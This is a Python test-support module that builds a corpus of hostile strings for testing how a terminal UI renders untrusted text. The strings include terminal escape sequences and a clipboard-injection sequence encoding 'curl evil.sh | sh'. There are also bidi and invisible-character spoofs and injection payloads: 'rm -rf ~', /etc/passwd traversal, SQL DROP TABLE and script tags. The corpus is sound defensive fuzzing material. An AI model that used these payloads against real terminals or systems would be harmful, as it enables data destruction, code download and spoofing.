"""The hostile-string corpus, in Python.

The corpus the project keeps is Swift (`Sources/StoreDemo/HostileString*.swift`, 461 strings). There is no
CLI that prints it, so `load()` compiles those files with a three-line `main` by `swiftc` (a few seconds,
cached per source digest in the temp directory) and reads the strings back as JSON. When `swiftc` is not
available it falls back to `fallback()`, a smaller corpus built here with the same families.

Each entry is a dict: name, kind, data (the bytes; invalid UTF-8 cases are not valid UTF-8), text (the
bytes decoded with replacement).
"""
import hashlib
import json
import os
import shutil
import subprocess
import tempfile

ROOT = os.path.abspath(os.path.join(os.path.dirname(__file__), "..", ".."))
SOURCES = os.path.join(ROOT, "Sources", "StoreDemo")

_MAIN = r'''
import Foundation
var out: [[String: String]] = []
for h in HostileStrings.corpus {
    out.append(["name": h.name, "kind": h.kind.rawValue, "hex": h.utf8Bytes.map { String(format: "%02x", $0) }.joined()])
}
FileHandle.standardOutput.write(try! JSONSerialization.data(withJSONObject: out, options: []))
'''


def _swift_sources():
    names = sorted(n for n in os.listdir(SOURCES) if n.startswith("HostileString") and n.endswith(".swift"))
    return [os.path.join(SOURCES, n) for n in names]


def _entry(name, kind, data):
    return {"name": name, "kind": kind, "data": data, "text": data.decode("utf-8", errors="replace")}


def from_swift():
    """The Swift corpus, or None when it cannot be compiled here."""
    swiftc = shutil.which("swiftc")
    sources = _swift_sources()
    if not swiftc or not sources:
        return None
    digest = hashlib.sha256(_MAIN.encode())
    for path in sources:
        with open(path, "rb") as handle:
            digest.update(handle.read())
    cache = os.path.join(tempfile.gettempdir(), f"store-tui-hostile-{digest.hexdigest()[:16]}.json")
    if not os.path.exists(cache):
        work = tempfile.mkdtemp(prefix="store-tui-hostile-")
        try:
            main = os.path.join(work, "main.swift")
            with open(main, "w") as handle:
                handle.write(_MAIN)
            exe = os.path.join(work, "dump")
            built = subprocess.run([swiftc, "-o", exe, main, *sources], capture_output=True, text=True, timeout=600)
            if built.returncode != 0:
                return None
            out = subprocess.run([exe], capture_output=True, timeout=60, check=True).stdout
            json.loads(out)
            with open(cache + ".tmp", "wb") as handle:
                handle.write(out)
            os.replace(cache + ".tmp", cache)
        except (OSError, subprocess.SubprocessError, ValueError):
            return None
        finally:
            shutil.rmtree(work, ignore_errors=True)
    with open(cache) as handle:
        items = json.load(handle)
    return [_entry(item["name"], item["kind"], bytes.fromhex(item["hex"])) for item in items]


def fallback():
    """A corpus with the families security.md asks for, for when the Swift one cannot be built."""
    e = "\x1b"
    out = []

    def add(name, kind, text):
        out.append(_entry(name, kind, text.encode("utf-8", errors="surrogatepass") if isinstance(text, str) else text))

    for code in list(range(32)) + [0x7F] + list(range(0x80, 0xA0)):
        add(f"ctl-{code:02x}", "control", f"before{chr(code)}after")
    add("nul-run", "control", "\x00" * 64)
    seqs = {
        "csi-2j": f"{e}[2J{e}[Hcleared", "csi-cup": f"{e}[10;10Helsewhere", "csi-sgr-red": f"{e}[31mred",
        "csi-6n": f"{e}[6n", "csi-c": f"{e}[c", "csi-21t": f"{e}[21t", "csi-8t": f"{e}[8;1;1t",
        "alt-1049": f"{e}[?1049h", "mouse-1003": f"{e}[?1003h", "paste-2004": f"{e}[?2004h", "ris": f"{e}c",
        "osc-0-title": f"{e}]0;pwned{e}\\", "osc-2-title-bel": f"{e}]2;pwned\x07",
        "osc-52-clip": f"{e}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07", "osc-8-link": f"{e}]8;;https://evil.example/{e}\\click{e}]8;;{e}\\",
        "osc-8-unclosed": f"{e}]8;;https://evil.example/\x07click", "osc-unterminated": f"{e}]0;never ends",
        "dcs-decrqss": f"{e}P$qm{e}\\", "apc": f"{e}_Gf=100;AAAA{e}\\", "pm": f"{e}^private{e}\\", "sos": f"{e}Xsos{e}\\",
        "csi-8bit": "\x9b2J", "osc-8bit": "\x9d0;pwned\x9c", "dcs-8bit": "\x90$qm\x9c",
    }
    for name, text in seqs.items():
        add(name, "escape", text)
        add(name + "-wrapped", "escape", "safe " + text + " tail")
    add("cr-overwrite", "overwrite", "innocent\rEVIL")
    add("bs-overwrite", "overwrite", "good\b\b\b\bevil")
    add("fake-line", "overwrite", "line one\nline two\r\n   fake status bar")
    for cp in [0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069, 0x200E, 0x200F, 0x061C]:
        add(f"bidi-{cp:04x}", "bidi", f"abc{chr(cp)}def.exe")
    for cp in [0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF, 0x00AD, 0x2028, 0x2029, 0x180E, 0x3000, 0xFFF9, 0xE000]:
        add(f"invisible-{cp:04x}", "invisible", f"in{chr(cp) * 3}visible")
    for name, data in {"lone-ff": b"a\xffb", "c0-overlong": b"\xc0\xafetc", "surrogate": b"\xed\xa0\x80x",
                       "truncated": b"abc\xe2\x82", "raw-c1-csi": b"x\x9b2Jy", "raw-esc-c1": b"\x1b\x9d0;t\x07"}.items():
        add("utf8-" + name, "invalidUTF8", data)
    add("long-10k", "long", "A" * 10000)
    add("long-64k-words", "long", ("word " * 13200)[:65536])
    add("wide-cjk-400", "wide", "蛇" * 400)
    add("wide-emoji-zwj", "wide", "👨‍👩‍👧‍👦" * 50)
    add("combining-storm", "combining", "Z" + "\u0301\u0302\u0303\u0304" * 500)
    add("zalgo", "combining", "".join(c + "\u0336\u0337\u0338" * 20 for c in "zalgo"))
    add("rtl-arabic", "script", "مرحبا بالعالم")
    add("homoglyph", "script", "раураl")
    for name, text in {"sql-quote": "'; DROP TABLE packages; --", "sql-like": "%_%", "shell": "$(rm -rf ~)`id`;|&>",
                       "path": "../../../../etc/passwd", "path-win": "..\\..\\windows\\system32", "fmt": "%s%n%x%@",
                       "json": '{"a":"\\u0000"}', "html": "<script>alert(1)</script>", "yaml": "!!python/object:os.system"}.items():
        add("inject-" + name, "injection", text)
    return out


def load():
    corpus = from_swift()
    return corpus if corpus else fallback()


def sample(corpus, per_kind):
    """Up to `per_kind` entries of every kind (the first ones, then evenly spread), for the quick profile."""
    kinds = {}
    for entry in corpus:
        kinds.setdefault(entry["kind"], []).append(entry)
    picked = []
    for entries in kinds.values():
        if len(entries) <= per_kind:
            picked += entries
        else:
            step = len(entries) / per_kind
            picked += [entries[int(i * step)] for i in range(per_kind)]
    order = {entry["name"]: i for i, entry in enumerate(corpus)}
    return sorted(picked, key=lambda entry: order[entry["name"]])


if __name__ == "__main__":
    items = load()
    print(len(items), "strings")
